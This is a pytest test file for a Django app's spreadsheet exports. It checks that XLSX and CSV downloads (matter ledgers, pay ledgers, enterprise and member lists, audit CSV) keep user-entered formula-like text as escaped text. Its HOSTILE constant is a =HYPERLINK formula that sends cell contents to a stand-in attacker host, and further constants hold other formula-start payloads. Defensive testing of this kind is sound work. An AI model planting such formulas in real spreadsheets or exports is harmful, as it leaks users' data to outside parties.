"""Formula injection (issue 14 item 5): no exported cell is a formula, in any .xlsx or .csv the site offers."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from soegov.accounts.roles import Role
from soegov.audit.services import audit_record
from soegov.core.spreadsheets import FORMULA_STARTS, append_row, csv_cell, csv_text, workbook_bytes
from soegov.leaders import pay
from soegov.matters import editing
from tests.factories import BodyFactory, EnterpriseFactory, JurisdictionFactory, UserFactory
from tests.leaders.factories import doc, leader, reviewer

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1)", "\t=1", "＝1+1"]


def test_csv_cell_escapes_every_formula_start_and_leaves_numbers_alone() -> None:
    for start in FORMULA_STARTS:
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell(-5) == -5 and csv_cell("甲公司") == "甲公司" and csv_cell(None) == ""
    assert csv_text(["a"], [[HOSTILE]]).splitlines()[1] == "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""


def test_append_row_keeps_strings_as_text_with_the_quote_prefix() -> None:
    wb = Workbook()
    append_row(wb.active, [HOSTILE, "普通文字", 3])
    cell_a, cell_b, cell_c = next(load_workbook(io.BytesIO(workbook_bytes(wb))).active.iter_rows())
    assert (cell_a.value, cell_a.data_type, cell_a.quotePrefix) == (HOSTILE, "s", True)
    assert (cell_b.value, cell_b.quotePrefix) == ("普通文字", False)
    assert cell_c.value == 3


def _client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def _formula_like_cells(data: bytes) -> list[Any]:
    """Every cell a spreadsheet would run: formula cells, or formula-like text without the quote prefix."""
    bad = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
                                             and not cell.quotePrefix):
                    bad.append(cell.coordinate)
    return bad


def _texts(data: bytes) -> set[str]:
    return {str(c.value) for ws in load_workbook(io.BytesIO(data)).worksheets for row in ws.iter_rows() for c in row
            if c.value is not None}


@pytest.mark.django_db
def test_every_export_keeps_recorded_formulas_as_text(tmp_path: Any, monkeypatch: Any) -> None:
    """The issue's reproduction: a matter titled =HYPERLINK(...) was a live formula in /matters/ledger.xlsx."""
    monkeypatch.setenv("SOEGOV_DATA_DIR", str(tmp_path))
    j = JurisdictionFactory(policy_packs=["yining-2024"])
    ent = EnterpriseFactory(jurisdiction=j, name=HOSTILE)
    filer = UserFactory(role=Role.ENTERPRISE_FILER, enterprise=ent)
    rev = reviewer(j)
    editing.matter_create(actor=filer, enterprise=ent, matter_type="donation", title=HOSTILE,
                          amount="100000", attributes={}, occurred_on="2026-03-02", description="说明",
                          date_confirmed=True)
    for n, text in enumerate(OTHERS):
        editing.matter_create(actor=filer, enterprise=ent, matter_type="donation", title=text,
                              amount=str(1000 + n), attributes={}, occurred_on="2026-03-02", description="说明",
                              date_confirmed=True)
    body = BodyFactory(enterprise=ent)
    from soegov.enterprises import services as enterprise_services

    enterprise_services.member_add(actor=None, body=body, name=HOSTILE, role="director")
    gm = leader(ent, "@张三")
    pay.pay_set(actor=rev, leader=gm, year=2025, base_pay="300000", performance_pay="200000",
                tenure_incentive="0", decision_number="-伊国资发〔2025〕8号", decision=doc(ent))
    xlsx_downloads = {
        "matters ledger (page)": (rev, "/matters/ledger.xlsx"),
        "matters ledger (API)": (rev, "/api/v1/matters/ledger.xlsx"),
        "pay ledger (page)": (rev, "/leaders/pay-ledger.xlsx?year=2025"),
        "pay ledger (API)": (rev, "/api/v1/leaders/pay-ledger.xlsx?year=2025"),
        "enterprises": (rev, "/enterprises/export/enterprises.xlsx"),
        "members": (rev, "/enterprises/export/members.xlsx"),
    }
    for what, (user, url) in xlsx_downloads.items():
        resp = _client(user).get(url)
        assert resp.status_code == 200, what
        data = b"".join(resp.streaming_content) if resp.streaming else resp.content
        assert _formula_like_cells(data) == [], what
        assert HOSTILE in _texts(data) or "@张三" in _texts(data), what  # the value itself is unchanged
    # The audit administrator's CSV: every column that can carry what a user typed.
    audit_record(actor=None, action="test.csv", object_repr=HOSTILE, object_id="+1", actor_name="@evil",
                 ip="", after={"x": 1})
    text = _client(UserFactory(role=Role.AUDIT_ADMIN)).get("/audit/export.csv", {"action": "test.csv"})
    line = b"".join(text.streaming_content).decode("utf-8-sig").splitlines()[1]
    assert "'@evil" in line and "'+1" in line and "'=HYPERLINK" in line
